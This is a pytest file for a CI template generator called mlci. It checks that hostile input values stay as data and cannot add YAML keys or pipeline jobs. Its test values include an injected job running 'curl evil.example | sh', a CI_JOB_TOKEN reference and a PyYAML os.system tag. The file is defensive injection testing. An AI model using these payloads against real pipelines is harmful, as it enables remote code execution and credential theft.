"""Hostile values cannot change the structure of what mlci renders: no new key, no new job.

Values enter rendering in two places: manifest defaults and descriptions (the
template header, the README tables) and `mlci init`'s options. Each case
renders, parses the output back and compares structure and values.
"""

from __future__ import annotations

from dataclasses import replace

import pytest
import yaml

HOSTILE = {
    "newline-job": "x\nevil-job:\n  script: [curl evil.example | sh]",
    "colon-space": "key: value",
    "quotes": "it's \"quoted\" 'twice'",
    "variable": "${CI_JOB_TOKEN}",
    "interpolation": "$[[ inputs.stage ]]",
    "anchor": "&anchor",
    "alias": "*anchor",
    "python-tag": "!!python/object/apply:os.system ['id']",
    "document": "a\n---\nb: c",
    "block": "|\n  text",
    "flow": "{evil: [1, 2]}",
    "comment": "# not a comment",
    "dash": "- item",
    "line-separator": "a\u2028b\u0085c",
    "ten-kilobytes": "A" * 10240,
}


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_manifest_values_round_trip_without_adding_keys_or_jobs(manifests, value, tmp_path):
    from mlci.generate.render import render_stage
    from mlci.lint.resolve import load_pipeline

    gate = manifests.by_name("gate")
    image = replace(gate.inputs["image"], default=value, description=value)
    hostile = replace(gate, inputs={**gate.inputs, "image": image}, title=value)
    text = render_stage(hostile)
    header, body = yaml.safe_load_all(text)
    clean_header, clean_body = yaml.safe_load_all(render_stage(gate))
    assert list(body) == list(clean_body)
    assert list(header["spec"]["inputs"]) == list(clean_header["spec"]["inputs"])
    assert header["spec"]["inputs"]["image"]["default"] == value
    assert header["spec"]["inputs"]["image"]["description"] == value
    assert all(line.startswith("#") for line in text.split("spec:", 1)[0].splitlines()), "the banner stays comments"

    # GitLab interpolates the default into the job's variable: the value arrives intact, as data.
    path = tmp_path / "gate.yml"
    path.write_text(text)
    pipeline = load_pipeline(path, root=tmp_path)
    assert list(pipeline.jobs) == ["mlci-gate"]
    assert pipeline.data["variables"]["MLCI_GATE_IMAGE"] == value


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_values_in_the_readme_stay_inside_one_table_cell(manifests, value):
    from mlci.generate.readme import stage_section
    from mlci.generate.render import LOCAL

    gate = manifests.by_name("gate")
    image = replace(gate.inputs["image"], default=value, description=value)
    section = stage_section(replace(gate, inputs={**gate.inputs, "image": image}), LOCAL)
    clean = stage_section(gate, LOCAL)
    assert section.count("\n") == clean.count("\n")
    row = next(line for line in section.splitlines() if line.startswith("| `image` |"))
    assert row.replace("\\|", "").count("|") == 6, "five cells, whatever the value holds"


INIT_FIELDS = ("name", "model", "owner", "data", "train_command", "gpu_tag")


@pytest.mark.parametrize("value", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_init_options_cannot_add_keys_or_jobs(value):
    from mlci.generate.init import InitOptions, render_init

    options = InitOptions(**{field: value for field in INIT_FIELDS})
    files = render_init(options)
    config = yaml.safe_load(files["mlci.yml"])
    clean = yaml.safe_load(render_init(InitOptions(name="demo", owner="ml-team"))["mlci.yml"])
    assert list(config) == list(clean)
    assert {k: list(v) if isinstance(v, dict) else None for k, v in config.items()} == {
        k: list(v) if isinstance(v, dict) else None for k, v in clean.items()}
    assert config["project"]["name"] == value and config["project"]["owner"] == value
    assert config["model"]["name"] == value
    assert config["train"]["command"] == value and config["train"]["data"] == [value]
    assert config["data"]["sources"]["train"]["path"] == value
    pipeline = yaml.safe_load(files[".gitlab-ci.yml"])
    assert list(pipeline) == ["include"]
    train = next(entry for entry in pipeline["include"] if entry["local"].endswith("mlci-train.yml"))
    assert train["inputs"]["tags"] == [value]


@pytest.mark.parametrize("metric", ["acc\nevil: 1", "a" * 300, "x: y"])
def test_init_refuses_a_metric_name_mlflow_would_not_accept(metric):
    from mlci.errors import UsageError
    from mlci.generate.init import InitOptions, render_init

    with pytest.raises(UsageError, match="metric"):
        render_init(InitOptions(name="demo", metric=metric))


def test_yaml_value_is_always_one_line_and_reads_back_unchanged():
    from mlci.generate.render import yaml_value

    for value in [*HOSTILE.values(), "", "true", "1.0", "null", "~", True, 3, None, ["a", "b: c"], {"k": "v\nw"}]:
        text = yaml_value(value)
        assert "\n" not in text
        assert yaml.safe_load(f"key: {text}\n") == {"key": value}
